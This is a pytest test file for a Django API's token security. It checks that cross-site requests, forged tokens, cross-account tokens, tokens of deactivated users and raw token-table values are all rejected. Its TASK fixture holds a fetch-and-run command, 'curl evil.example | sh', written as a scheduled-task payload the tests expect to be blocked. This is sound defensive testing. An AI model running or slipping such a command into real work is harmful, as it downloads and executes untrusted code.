"""Attacks on the HTTP API's tokens: riding a browser's session, forging or stretching tokens."""

import pytest
from django.test import Client

from api import services
from api.tokens import sandbox_token
from schedules.models import ScheduledTask
from tests.api.conftest import ApiClient
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

TASK = '{"command": "curl evil.example | sh", "interval": "daily", "hour": 1, "minute": 1}'


def test_a_cross_site_request_riding_the_session_cookie_gets_nothing(alice_client, user):
    """Would give: a page on another site making the victim's browser create tasks or read
    files through the API, since a browser sends the session cookie with it."""
    response = alice_client.post(
        "/api/v1/user/alice/schedule/", TASK, content_type="application/json"
    )
    assert response.status_code == 401
    assert alice_client.get("/api/v1/user/alice/consoles/").status_code == 401
    assert not ScheduledTask.objects.exists()


def test_a_sandbox_token_cannot_be_forged_without_the_secret_key(user, settings):
    """Would give: anyone who reads the database (a backup, a replica) every user's
    $API_TOKEN, since the salt is stored beside the digest."""
    row = services.api_sandbox_token_set(user=user, enabled=True)
    settings.SECRET_KEY = "an attacker's guess"
    forged = sandbox_token(user_id=user.pk, salt=row.salt)
    assert ApiClient(forged, "alice").get("cpu/").status_code == 401


def test_a_token_is_not_accepted_for_another_account_by_changing_the_url(user):
    """Would give: mallory's token acting on alice's things by naming alice in the URL."""
    mallory = UserFactory(username="mallory")
    _, token = services.api_token_create(user=mallory, name="m")
    api = ApiClient(token, "alice")
    assert api.get("cpu/").status_code == 404
    assert api.post("schedule/", TASK).status_code == 404
    assert not ScheduledTask.objects.exists()


def test_a_token_does_not_outlive_its_users_deactivation(user):
    """Would give: a banned user's scripts still running things."""
    _, token = services.api_token_create(user=user, name="t")
    user.is_active = False
    user.save(update_fields=["is_active"])
    assert ApiClient(token, "alice").get("cpu/").status_code == 401


def test_the_token_table_alone_gives_no_token(user):
    """Would give: every user's account to whoever reads the api_apitoken table."""
    row, token = services.api_token_create(user=user, name="t")
    assert ApiClient(row.digest, "alice").get("cpu/").status_code == 401
    assert ApiClient(row.prefix, "alice").get("cpu/").status_code == 401
    assert token not in (row.digest, row.prefix, row.salt)


def test_the_api_takes_no_session_even_for_reading_the_docs_schema(client):
    """The schema is public on purpose (it is the same for everyone); nothing else is."""
    assert client.get("/api/schema/").status_code == 200
    assert Client().get("/api/v1/whoami/").status_code == 401
